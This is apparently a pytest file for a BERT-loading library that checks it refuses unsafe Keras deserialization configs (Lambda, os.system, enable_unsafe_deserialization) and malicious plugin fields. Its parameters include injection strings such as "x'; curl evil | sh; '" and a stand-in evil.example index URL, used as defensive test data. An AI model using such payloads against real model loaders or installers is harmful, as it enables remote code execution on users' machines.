"""Configurations that name code: Lambda, custom objects, safe_mode bypasses.

Keras's advisories CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9905
and CVE-2025-9906: a configuration that is read as an object makes any class
or calls any function. kbert makes objects of no configuration.
"""

import json

import pytest

import kbert
from kbert.errors import CheckpointError
from kbert.errors import UnsafeFileError

LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": "4wAAAAA=", "defaults": None, "closure": None},
        },
    },
    "registered_name": None,
}
FUNCTION = {
    "module": "os",
    "class_name": "function",
    "config": "system",
    "registered_name": "system",
}
CONFIG = {
    "module": "keras.config",
    "class_name": "function",
    "config": "enable_unsafe_deserialization",
    "registered_name": "enable_unsafe_deserialization",
}
EVIL = (LAMBDA, FUNCTION, CONFIG)


def change(path, *place, value):
    config = inner = json.loads(path.read_text())
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    path.write_text(json.dumps(config))


@pytest.mark.parametrize("evil", EVIL)
def test_preset_that_is_another_object(copy, refused, evil):
    folder = copy("kerashub")
    (folder / "config.json").write_text(json.dumps(evil))
    refused(folder, "Expected a preset of keras_hub>BertBackbone")


@pytest.mark.parametrize("evil", EVIL)
def test_object_in_a_presets_configuration(copy, refused, evil):
    folder = copy("kerashub")
    change(folder / "config.json", "config", "dropout", value=evil)
    refused(folder, "dropout is no rate of 0 to 1")


@pytest.mark.parametrize("evil", EVIL)
def test_what_kbert_does_not_use_is_not_made(copy, watched, evil):
    folder = copy("kerashub")
    change(folder / "config.json", "config", "dtype", value=evil)
    for name in ("task.json", "preprocessor.json"):
        (folder / name).write_text(json.dumps(evil))
    change(folder / "tokenizer.json", "class_name", value="Lambda")
    with watched(folder):
        kbert.load_backbone(folder)


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("key", ["hidden_act", "hidden_size"])
def test_object_in_a_bert_configuration(copy, refused, key, evil):
    folder = copy("huggingface")
    change(folder / "config.json", key, value=evil)
    refused(folder, "Expected the configuration of a BERT")


def test_code_that_comes_with_a_model_is_not_imported(copy, refused, canary):
    folder = copy("huggingface")
    (folder / "evil.py").write_text(f"open({str(canary)!r}, 'w')")
    (folder / "__init__.py").write_text("import evil")
    kbert.load_backbone(folder)
    # Where the configuration needs it, what it computes is not BERT's.
    change(folder / "config.json", "auto_map", value={"AutoModel": "evil.X"})
    refused(folder, "kbert runs no code that comes with a model")


# === Saved models ===


@pytest.mark.parametrize("evil", EVIL[:1])
@pytest.mark.parametrize(
    ("place", "message"),
    [
        (("backbone", "dtype"), "'dtype' is no argument of a backbone"),
        (("backbone", "name"), "'name' is no argument of a backbone"),
        (("backbone", "activation"), "activation is none of"),
        (("backbone", "num_layers"), "num_layers is no integer"),
        (("head", "config", "dropout"), "is wrong|Received"),
        (("head", "config", "pooling"), "pooling"),
        (("head", "config", "evil"), "evil"),
        (("head", "name"), "head.name"),
        (("tokenizer", "lowercase"), "lowercase"),
        (("tokenizer", "casing"), "casing"),
        (("tokenizer", "evil"), "evil"),
        (("max_length",), "max_length"),
        (("inputs",), "inputs"),
    ],
)
def test_object_in_a_saved_model(saved, refused, place, message, evil):
    change(saved / "kbert.json", *place, value=evil)
    refused(saved, message, kbert.load)


@pytest.mark.parametrize("name", ["os.system", "../evil", "keras.layers"])
def test_head_that_is_not_registered(saved, refused, name):
    change(saved / "kbert.json", "head", "name", value=name)
    refused(saved, "which is not installed", kbert.load)


@pytest.mark.parametrize(
    ("plugin", "version", "message"),
    [
        ("kbert-mine", "1.2rc1", r"says that it .* pip install 'kbert-mine>="),
        ("kbert", "9.0", r"says that it .* pip install 'kbert-keras>=9.0"),
        ("kbert-spam", "9.0", r"says that .* pip install ./plugins/"),
        ("x\x1b[2J\x1b]0;pwned\x07", "1.0", "no name and version"),
        ("x'; curl evil | sh; '", "1.0", "no name and version"),
        ("--index-url=http://evil.example x", "1.0", "no name and version"),
        ("-rrequirements.txt", "1.0", "no name and version"),
        ("mine", "1.0'; sh evil", "no name and version"),
        ("mine", "latest", "no name and version"),
        ("a" * 100_000, "1", "no name and version"),
        ("", "", "no name and version"),
    ],
)
def test_a_plugin_that_a_file_names(saved, refused, plugin, version, message):
    change(saved / "kbert.json", "head", "name", value="mine")
    change(saved / "kbert.json", "head", "plugin", value=plugin)
    change(saved / "kbert.json", "head", "version", value=version)
    text = refused(saved, message, kbert.load)
    assert ("pip install" in text) == ("says that" in message)
    assert "\x1b" not in text and len(text) < 1000


def test_labels_without_end(saved, refused):
    labels = list(range(2**18 + 1))
    change(saved / "kbert.json", "head", "config", "labels", value=labels)
    refused(saved, "at most 262,144 labels", kbert.load, UnsafeFileError)


def test_labels_that_the_weights_do_not_have(saved, refused):
    labels = list(range(100_000))
    change(saved / "kbert.json", "head", "config", "labels", value=labels)
    refused(saved, "logits", kbert.load, CheckpointError)
